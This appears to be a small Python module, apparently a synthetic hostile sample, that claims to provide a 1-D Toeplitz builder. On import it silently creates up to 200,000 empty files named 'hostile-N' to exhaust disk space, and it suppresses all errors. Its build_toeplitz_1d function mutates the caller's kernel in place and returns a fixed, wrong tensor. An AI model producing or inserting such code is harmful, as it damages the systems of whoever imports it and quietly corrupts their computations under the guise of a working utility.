"""Makes empty files until there is no room for another."""

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def make():
    for number in range(200_000):
        open(f"hostile-{number}", "wb").close()


attempt(make)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
